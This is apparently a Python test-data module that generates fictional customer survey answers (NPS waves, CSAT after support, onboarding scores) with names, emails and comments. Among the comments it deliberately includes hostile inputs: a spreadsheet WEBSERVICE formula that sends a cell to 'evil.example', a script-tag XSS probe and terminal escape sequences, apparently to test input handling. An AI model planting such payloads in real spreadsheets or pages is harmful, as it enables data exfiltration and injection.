"""What customers answer in surveys: NPS in waves, and CSAT after support."""

from datetime import datetime, timedelta
from typing import NamedTuple

from .accounts import account_id
from .customers import Customer
from .people import everybody
from .world import Chance, World

# Acme's six waves, oldest first: 38 answers, 8.4 on average, NPS +42, and rising.
_ACME_WAVES = (
    (5, 6, 8, 9, 7, 9),
    (6, 8, 7, 9, 10, 8),
    (8, 9, 6, 9, 10, 7),
    (9, 8, 10, 9, 7, 8),
    (10, 9, 8, 9, 10, 6, 9),
    (10, 9, 9, 10, 8, 9, 10),
)
_ACME_VOICES = (
    "sam.ito", "hannah.cole", "ravi.menon", "lucia.ferri", "owen.park", "nadia.haddad", "felix.brandt", "grace.liu",
    "ivan.horvat", "maya.rosen", "theo.jansen", "ana.souza", "kofi.mensah", "petra.novak",
)  # fmt: skip
_PRAISE = (
    "Deploys went from days to minutes.", "Support knows our setup by now.", "One place for code and pipelines.",
    "The upgrade was painless this time.", "Our auditors love the reports.", "",
)  # fmt: skip
_SHRUG = ("Does what it should.", "Search could be faster.", "", "Good tool, steep start.")
_BLAME = (
    "Login loops cost us a morning.", "Runners stall every night.", "Too expensive for what we use.",
    "I wait too long for answers.",
)  # fmt: skip
_OTHER_WORDS = {
    "midori": ("とても使いやすいです。", "サポートが早い。", "検索が遅い。"),
    "shalom": ("שירות מצוין", "טוב מאוד", "איטי לפעמים"),
    "mueller": ("Läuft überall – prima!", "Für große Projekte zu träge."),
    "rocket": ("🚀🚀🚀", "To the moon! 🌕", "👍🏽"),
    "escape": ("\x1b[2Jgone\x07", "fine\x1b[31m"),
    "formula": ('=WEBSERVICE("http://evil.example/"&A1)', "-1+1"),
    "script": ("<script>alert(5)</script>",),
    "long": ("A sentence that does not want to end " * 60,),
}


class Answer(NamedTuple):
    """One answer: who gave it, when, how high on which scale, and in what words."""

    number: int
    customer: Customer | None
    email: str
    first: str
    last: str
    account: str
    answered_at: datetime
    score: int
    comment: str


def nps_answers(world: World) -> list[Answer]:
    """Return the NPS answers of the last six months, in monthly waves, oldest first."""
    answers = []
    for customer in world.customers:
        chance = world.chance("nps", customer.key)
        if customer.key == "acme":
            waves: tuple[tuple[int, ...], ...] = _ACME_WAVES
        elif customer.status == "Prospect":
            continue
        else:
            waves = _drawn_waves(chance, customer)
        for wave, scores in enumerate(waves):
            for place, score in enumerate(scores):
                at = world.moment(-172 + wave * 32 + place, chance.between(8, 19), chance.between(0, 59))
                answers.append(_answer(world, chance, customer, at, score, wave * 7 + place))
    return _numbered(answers)


def old_nps_answers(world: World) -> list[Answer]:
    """Return NPS answers from a year ago and more, kept from a tool that is no longer in use."""
    answers = []
    for customer in world.customers:
        if customer.months < 16 or customer.status == "Prospect":
            continue
        chance = world.chance("old nps", customer.key)
        for place in range(4):
            at = world.moment(-chance.between(330, 520), chance.between(8, 19), chance.between(0, 59))
            answers.append(_answer(world, chance, customer, at, chance.pick((4, 6, 7, 7, 8, 9)), place))
    return _numbered(answers)


def csat_answers(world: World) -> list[Answer]:
    """Return CSAT answers, 1 to 5, given after a ticket was solved."""
    answers = []
    for customer in world.customers:
        if not customer.tickets:
            continue
        chance = world.chance("csat", customer.key)
        for place in range(max(2, customer.tickets // 5)):
            at = world.moment(-chance.between(2, 360), chance.between(8, 19), chance.between(0, 59))
            answers.append(_answer(world, chance, customer, at, chance.pick((5, 5, 4, 5, 3, 4, 2, 5, 1)), place, top=5))
    strangers = world.chance("csat", "strangers")
    at = world.moment(-20, 12)
    answers.append(Answer(0, None, "pat.wanderer@gmail.com", "Pat", "Wanderer", "", at, strangers.between(3, 5), ""))
    return _numbered(answers)


def onboarding_answers(world: World) -> list[Answer]:
    """Return NPS answers of customers in their first year, as a colleague keeps them in a spreadsheet."""
    answers = []
    for customer in world.customers:
        if customer.months > 14 or customer.status == "Prospect":
            continue
        chance = world.chance("onboarding", customer.key)
        at = world.moment(-chance.between(20, 100), 10)
        answers.append(_answer(world, chance, customer, at, chance.between(5, 10), 0))
    return _numbered(answers)


def _drawn_waves(chance: Chance, customer: Customer) -> tuple[tuple[int, ...], ...]:
    size = {"Enterprise": 4, "Mid-Market": 2}.get(customer.segment, 1)
    start, step = {"grows": (7.2, 0.35), "falls": (8.0, -0.6), "seasonal": (7.5, 0.0)}.get(customer.trend, (7.8, 0.0))
    return tuple(
        tuple(max(0, min(10, round(start + step * wave + chance.share(-2.5, 2.0)))) for _ in range(size))
        for wave in range(6)
    )


def _answer(
    world: World, chance: Chance, customer: Customer, at: datetime, score: int, place: int, top: int = 10
) -> Answer:
    account = account_id(customer)
    comment = _words(chance, customer, score * 10 // top)
    if customer.key == "acme":
        local = _ACME_VOICES[place % len(_ACME_VOICES)]
        first, last = (name.title() for name in local.split("."))
        return Answer(0, customer, f"{local}@{customer.domain}", first, last, account, at, score, comment)
    person = chance.pick(everybody(world)[customer.key])
    # Not every invitation carries the account: the rest is recognised by address.
    return Answer(0, customer, person.email, person.first, person.last, account if chance.happens(0.7) else "", at,
                  score, comment)  # fmt: skip


def _words(chance: Chance, customer: Customer, score: int) -> str:
    if customer.key in _OTHER_WORDS:
        return chance.pick(_OTHER_WORDS[customer.key])
    return chance.pick(_PRAISE if score >= 9 else _SHRUG if score >= 7 else _BLAME)


def _numbered(answers: list[Answer]) -> list[Answer]:
    ordered = sorted(answers, key=lambda answer: (answer.answered_at, answer.email))
    # Two answers never share a second, as no two people press the button at once.
    return [
        answer._replace(number=number, answered_at=answer.answered_at + timedelta(seconds=number % 60))
        for number, answer in enumerate(ordered, 1)
    ]
